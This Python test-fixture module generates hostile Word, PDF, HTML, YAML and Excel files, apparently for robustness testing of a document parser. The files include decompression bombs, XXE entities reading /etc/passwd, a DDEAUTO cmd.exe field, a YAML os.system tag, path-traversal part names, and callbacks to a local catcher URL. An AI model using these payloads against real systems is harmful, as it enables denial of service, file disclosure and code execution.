"""Files made to eat time or memory, to reach out, or to be taken for something else: small each, some two hundred.

Each is a name, the words of the command that meets it, and its bytes.  They are of the kinds that are known against
programs that read Office files, PDF, web pages, YAML and templates, each in several sizes and disguises.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CATCHER = "http://127.0.0.1:18765/x"


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A hostile file: its name, and its bytes."""

    name: str
    data: bytes


def docx(body: str, *, styles: str = "", head: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    """Return a Word file with this body; ``head`` stands before the root element."""
    relations = f'<Relationship Id="a" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'
    inner = f'<Relationship Id="s" Type="{_OFFICE}/styles" Target="styles.xml"/>'
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_RELATIONS}">{relations}</Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{inner}</Relationships>',
        "word/document.xml": f'{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>',
        "word/styles.xml": f'<w:styles xmlns:w="{W}">{styles}</w:styles>',
    }
    return packed({**{name: text.encode() for name, text in parts.items()}, **(extra or {})})


def packed(parts: dict[str, bytes]) -> bytes:
    """Return an archive of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def paragraph(text: str, properties: str = "") -> str:
    """Return a paragraph of Word."""
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


def word_files() -> Iterator[Hostile]:
    """Yield Word files: bombs, depths, loops, chains, entities, things that reach out."""
    duty = paragraph("一、主要任务") + paragraph("（一）建设应急队伍。各县建设应急队伍。（市应急局牵头）")
    for size in (1, 20, 200):
        million = size * 1_000_000
        yield Hostile(name=f"zeros-{size}.docx", data=docx(duty, extra={"word/media/a.bin": bytes(million)}))
        yield Hostile(name=f"blanks-{size}.docx", data=docx(duty + " " * million))
        yield Hostile(name=f"text-{size}.docx", data=docx(duty + paragraph("县" * (million // 3))))
        yield Hostile(name=f"styles-{size}.docx", data=docx(duty, styles=" " * million))
    for depth in (50, 500, 5000, 50_000):
        yield Hostile(name=f"deep-{depth}.docx", data=docx("<w:sdt><w:sdtContent>" * depth + duty))
        closed = "</w:sdtContent></w:sdt>" * depth
        yield Hostile(name=f"deep-closed-{depth}.docx", data=docx("<w:sdt><w:sdtContent>" * depth + duty + closed))
        table = "<w:tbl><w:tr><w:tc>" * depth + duty + "</w:tc></w:tr></w:tbl>" * depth
        yield Hostile(name=f"tables-{depth}.docx", data=docx(table))
    for rows in (1000, 60_000, 250_000):
        row = f"<w:tr><w:tc>{paragraph('1')}</w:tc><w:tc>{paragraph('建设队伍')}</w:tc></w:tr>"
        yield Hostile(name=f"rows-{rows}.docx", data=docx(duty + f"<w:tbl>{row * rows}</w:tbl>"))
    for span in (100, 100_000, 2**31):
        cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{paragraph("x")}</w:tc>'
        yield Hostile(name=f"span-{span}.docx", data=docx(duty + f"<w:tbl><w:tr>{cell * 50}</w:tr></w:tbl>"))
    for count in (100, 5000, 60_000):
        chain = "".join(
            f'<w:style w:type="paragraph" w:styleId="S{i}"><w:basedOn w:val="S{i + 1}"/></w:style>'
            for i in range(count)
        )
        used = paragraph("建设队伍。", '<w:pPr><w:pStyle w:val="S0"/></w:pPr>')
        yield Hostile(name=f"style-chain-{count}.docx", data=docx(duty + used * 50, styles=chain))
        loop = chain.replace(f'"S{count}"', '"S0"')
        yield Hostile(name=f"style-loop-{count}.docx", data=docx(duty + used * 50, styles=loop))
        yield Hostile(name=f"runs-{count}.docx", data=docx(f"<w:p>{'<w:r><w:t>县</w:t></w:r>' * count}</w:p>{duty}"))
        marks = "".join(f'<w:bookmarkStart w:id="{i}" w:name="pg_{i}"/>' for i in range(count))
        yield Hostile(name=f"bookmarks-{count}.docx", data=docx(f"<w:p>{marks}</w:p>{duty}"))
        fields = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * count
        yield Hostile(name=f"fields-{count}.docx", data=docx(f"<w:p>{fields}</w:p>{duty}"))
        changes = f'<w:ins w:id="1" w:author="a">{"<w:r><w:t>x</w:t></w:r>"}</w:ins>' * count
        yield Hostile(name=f"changes-{count}.docx", data=docx(f"<w:p>{changes}</w:p>{duty}"))
        attributes = " ".join(f'w:a{i}="1"' for i in range(count))
        yield Hostile(name=f"attributes-{count}.docx", data=docx(f"<w:p {attributes}/>{duty}"))
        names = {f"word/part{i}.xml": b"<a/>" for i in range(min(count, 20_000))}
        yield Hostile(name=f"parts-{count}.docx", data=docx(duty, extra=names))
    for head in (
        '<!DOCTYPE a [<!ENTITY x "yyyyyyyyyy"><!ENTITY y "&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;">]>',
        '<!DOCTYPE a SYSTEM "file:///etc/passwd">',
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "{CATCHER}">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>',
    ):
        yield Hostile(name=f"entity-{zlib.crc32(head.encode()) % 1000}.docx", data=docx(duty, head=head))
    for code in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc",
        f"INCLUDEPICTURE {CATCHER}",
        f"INCLUDETEXT {CATCHER}",
        "MACROBUTTON x",
    ):
        field = f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        yield Hostile(name=f"field-{code.split()[0].lower()}.docx", data=docx(duty + field))
    outside = f'<Relationship Id="t" Type="{_OFFICE}/attachedTemplate" Target="{CATCHER}" TargetMode="External"/>'
    relations = f'<Relationships xmlns="{_RELATIONS}">{outside}</Relationships>'.encode()
    yield Hostile(name="template-outside.docx", data=docx(duty, extra={"word/_rels/settings.xml.rels": relations}))
    for name in ("../../x.xml", "/etc/x", "word\\document.xml", "WORD/DOCUMENT.XML", "a" * 60_000, "", "con.xml"):
        yield Hostile(name=f"part-name-{len(name)}.docx", data=docx(duty, extra={name or "/": b"<a/>"}))
    whole = docx(duty)
    for share in (0.1, 0.5, 0.9, 0.99):
        yield Hostile(name=f"cut-{int(share * 100)}.docx", data=whole[: int(len(whole) * share)])
    yield Hostile(name="zip-in-zip.docx", data=packed({"a.docx": packed({"b.docx": whole})}))
    yield Hostile(name="sheet.docx", data=packed({"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<a/>"}))


def pdf_files() -> Iterator[Hostile]:
    """Yield PDF files: loops of references, bombs of streams, wrong lengths, endless trees."""

    def made(objects: list[bytes], root: int = 1) -> bytes:
        body, places = b"%PDF-1.7\n", []
        for number, content in enumerate(objects, 1):
            places.append(len(body))
            body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        table = b"".join(b"%010d 00000 n \n" % place for place in places)
        size = len(objects) + 1
        return body + (
            b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Root %d 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF"
            % (size, table, root, size, len(body))
        )

    def stream(data: bytes, words: bytes = b"") -> bytes:
        return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (words, len(data), data)

    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    head = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page]
    text = b"BT /F 12 Tf 50 700 Td (1. Build teams.) Tj ET\n"
    for times in (1, 1000, 50_000):
        yield Hostile(name=f"text-{times}.pdf", data=made([*head, stream(text * times), font]))
        lines = b"0 0 m 100 100 l S\n" * times
        yield Hostile(name=f"lines-{times}.pdf", data=made([*head, stream(lines), font]))
        forms = b"/X Do\n" * times
        own = stream(b"/X Do \n", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
        with_form = page.replace(b"/Font<<", b"/XObject<</X 6 0 R>>/Font<<")
        yield Hostile(name=f"form-{times}.pdf", data=made([*head[:2], with_form, stream(forms), font, own]))
    for size in (1, 60, 600):
        data = zlib.compress(bytes(size * 1_000_000), 9)
        for words in (b"/Filter/FlateDecode", b"/Filter/Fl", b"/Filter[/FlateDecode]"):
            name = f"stream-{size}-{len(words)}.pdf"
            yield Hostile(name=name, data=made([*head, stream(data, words), font]))
        twice = zlib.compress(data, 9)
        words = b"/Filter[/FlateDecode/FlateDecode]"
        yield Hostile(name=f"stream-twice-{size}.pdf", data=made([*head, stream(twice, words), font]))
        content = zlib.compress(text * (size * 20_000), 9)
        yield Hostile(name=f"text-packed-{size}.pdf", data=made([*head, stream(content, b"/Filter/FlateDecode"), font]))
    for count in (b"1", b"-1", b"999999999", b"2 0 R"):
        pages = b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count %s>>" % count
        yield Hostile(name=f"kids-loop-{len(count)}.pdf", data=made([head[0], pages, page, stream(text), font]))
    yield Hostile(name="length-loop.pdf", data=made([*head, b"<</Length 4 0 R>>\nstream\nx\nendstream", font]))
    yield Hostile(
        name="contents-loop.pdf", data=made([*head[:2], page.replace(b"4 0 R", b"3 0 R"), stream(text), font])
    )
    yield Hostile(
        name="font-loop.pdf", data=made([*head, stream(text), b"<</Type/Font/Subtype/Type0/DescendantFonts[5 0 R]>>"])
    )
    nested = b"[" * 30_000 + b"]" * 30_000
    yield Hostile(name="nested.pdf", data=made([*head, stream(text), nested]))
    yield Hostile(name="box.pdf", data=made([*head[:2], page.replace(b"600 800", b"1e30 -1e30"), stream(text), font]))
    yield Hostile(
        name="encrypted.pdf", data=made([*head, stream(text), font]).replace(b"/Root", b"/Encrypt 1 0 R/Root")
    )
    yield Hostile(
        name="two-objects.pdf", data=b"%PDF-1.7\n1 0 obj 2 0 R endobj 2 0 obj 1 0 R endobj trailer<</Root 1 0 R>>"
    )
    yield Hostile(name="head-only.pdf", data=b"%PDF-1.7\n")
    yield Hostile(name="garbage.pdf", data=b"%PDF-1.7\n" + bytes(range(256)) * 200)


def web_files() -> Iterator[Hostile]:
    """Yield web pages and texts: depths, attributes, scripts, tables without end, words that never break."""
    duty = "<p>一、主要任务</p><p>（一）建设队伍。各县建设队伍。（市应急局牵头）</p>"
    for count in (100, 10_000, 100_000):
        attributes = " ".join(f"a{i}=1" for i in range(count))
        yield Hostile(name=f"attributes-{count}.html", data=f"<html><p {attributes}>x</p>{duty}".encode())
        yield Hostile(name=f"deep-{count}.html", data=("<div>" * count + duty).encode())
        yield Hostile(name=f"tables-{count}.html", data=("<table><tr><td>" * count + duty).encode())
        cells = "<td>1</td>" * count
        yield Hostile(name=f"cells-{count}.html", data=f"<table><tr>{cells}</tr></table>{duty}".encode())
        yield Hostile(name=f"unclosed-{count}.html", data=("<p>" * count + "<!--" * count + duty).encode())
        yield Hostile(name=f"brackets-{count}.txt", data=("一、任务\n（一）" + "（" * count + "市应急局牵头").encode())
        yield Hostile(name=f"closing-{count}.txt", data=("一、任务\n（一）建设" + "）" * count + "市应急局").encode())
        yield Hostile(
            name=f"commas-{count}.txt", data=("一、任务\n（一）建设。（" + "市局、" * count + "牵头）").encode()
        )
        yield Hostile(name=f"blanks-{count}.txt", data=("一、任务\n" + " " * count + "（一）建设\n").encode())
        yield Hostile(name=f"digits-{count}.txt", data=("一、任务\n（一）建设" + "9" * count + "支队伍。").encode())
        yield Hostile(name=f"quotes-{count}.txt", data=("一、任务\n（一）" + "“" * count + "建设队伍。").encode())
        yield Hostile(name=f"tens-{count}.txt", data=("一、任务\n（" + "十" * count + "）建设队伍。").encode())
        yield Hostile(name=f"lines-{count}.txt", data="\n".join(f"{i}.建设队伍" for i in range(count // 2)).encode())
        yield Hostile(name=f"table-{count}.md", data=("|a" * count + "|\n" + "|-" * count + "|\n| x |\n").encode())
        yield Hostile(name=f"quote-{count}.md", data=(">" * count + " 任务\n").encode())
        yield Hostile(name=f"list-{count}.md", data=("- " * count + "任务\n").encode())
        yield Hostile(name=f"stars-{count}.md", data=("*a " * count + "\n").encode())
    for word in (f'<img src="{CATCHER}">', f'<link rel=stylesheet href="{CATCHER}">', "<script>while(1);</script>"):
        yield Hostile(name=f"outside-{len(word)}.html", data=(word + duty).encode())
    yield Hostile(name="meta.html", data=f'<meta http-equiv="refresh" content="0;url={CATCHER}">{duty}'.encode())
    yield Hostile(name="charset.html", data=b"<meta charset=utf-7>" + duty.encode("gb18030"))
    yield Hostile(name="nul.txt", data=b"\x00" * 100_000 + b"x")


def yaml_files() -> Iterator[Hostile]:
    """Yield specs: anchors that unfold, depths, long lines, many keys, numbers without end."""
    head = "county: {name: 永和县}\n"
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(12)
    )
    yield Hostile(name="laughs.yaml", data=laughs.encode())
    yield Hostile(name="laughs-merge.yaml", data=("a: &a {b: 1}\n" + "c: {<<: [" + "*a, " * 50_000 + "*a]}\n").encode())
    for count in (100, 5000, 200_000):
        yield Hostile(name=f"deep-{count}.yaml", data=(head + "x: " + "[" * count + "]" * count).encode())
        yield Hostile(name=f"deep-open-{count}.yaml", data=(head + "x: " + "{a: " * count).encode())
        lines = "\n".join(" " * min(i, 900) + "a:" for i in range(min(count, 3000)))
        yield Hostile(name=f"indent-{count}.yaml", data=(head + lines).encode())
        yield Hostile(name=f"keys-{count}.yaml", data=(head + "\n".join(f"k{i}: 1" for i in range(count))).encode())
        yield Hostile(name=f"line-{count}.yaml", data=(head + "x: " + "县" * count).encode())
        yield Hostile(name=f"number-{count}.yaml", data=(head + "x: " + "9" * count).encode())
        yield Hostile(name=f"sexagesimal-{count}.yaml", data=(head + "x: 1" + ":59" * count).encode())
        towns = ", ".join(f"永和{i}乡" for i in range(count))
        yield Hostile(name=f"towns-{count}.yaml", data=f"county: {{name: 永和县, townships: [{towns}]}}\n".encode())
        units = ", ".join(f"{{name: 县{i}局, duties: [应急]}}" for i in range(min(count, 20_000)))
        yield Hostile(name=f"units-{count}.yaml", data=(head + f"roster: [{units}]\n").encode())
        yield Hostile(name=f"comments-{count}.yaml", data=(head + "# x\n" * count).encode())
        yield Hostile(name=f"scalars-{count}.yaml", data=(head + "x: |\n" + "  县\n" * count).encode())
    for tag in (
        "!!python/object/apply:os.system [x]",
        "!!python/name:os.system",
        "!!binary AAAA",
        "!<x> y",
        "!!set {a}",
    ):
        yield Hostile(name=f"tag-{len(tag)}.yaml", data=(head + f"x: {tag}\n").encode())
    yield Hostile(name="empty.yaml", data=b"")
    yield Hostile(name="picture.yaml", data=b"\x89PNG\r\n\x1a\n" + bytes(1000))


def sheet_files() -> Iterator[Hostile]:
    """Yield workbooks: bombs of shared strings, rows and columns without end, formulas, links."""
    sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

    def book(rows: str, strings: str = "", extra: dict[str, bytes] | None = None) -> bytes:
        relations = (
            f'<Relationship Id="a" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="b" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        )
        first = f'<Relationship Id="a" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
        name = '<sheet name="承接" sheetId="1" r:id="a"/>'
        parts = {
            "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_SHEET}"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{_RELATIONS}">{first}</Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{sheet}" xmlns:r="{_OFFICE}"><sheets>{name}</sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{relations}</Relationships>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{sheet}"><sheetData>{rows}</sheetData></worksheet>',
            "xl/sharedStrings.xml": f'<sst xmlns="{sheet}">{strings}</sst>',
        }
        return packed({**{name: text.encode() for name, text in parts.items()}, **(extra or {})})

    cell = '<c r="A1" t="inlineStr"><is><t>建设队伍</t></is></c>'
    for count in (100, 50_000, 1_000_000):
        yield Hostile(name=f"rows-{count}.xlsx", data=book(f"<row>{cell}</row>" * count))
        yield Hostile(name=f"columns-{count}.xlsx", data=book(f"<row>{cell * count}</row>"))
        yield Hostile(name=f"strings-{count}.xlsx", data=book(f"<row>{cell}</row>", "<si><t>县</t></si>" * count))
        yield Hostile(name=f"long-{count}.xlsx", data=book(f"<row>{cell.replace('建设队伍', '县' * count)}</row>"))
    for place in ("XFD1048576", "ZZZZZZ99999999999", "A0", "-1", ""):
        far = cell.replace("A1", place)
        yield Hostile(name=f"far-{len(place)}.xlsx", data=book(f"<row>{cell}{far}</row>"))
    formula = f'<c r="A1"><f>WEBSERVICE("{CATCHER}")</f><v>1</v></c>'
    yield Hostile(name="formula.xlsx", data=book(f"<row>{formula}</row>"))
    yield Hostile(name="macro.xlsx", data=book(f"<row>{cell}</row>", extra={"xl/vbaProject.bin": b"x" * 100}))
    yield Hostile(name="cut.xlsx", data=book(f"<row>{cell}</row>")[:-200])


def all_files() -> Iterator[Hostile]:
    """Yield every hostile file."""
    for family in (word_files, pdf_files, web_files, yaml_files, sheet_files):
        yield from family()
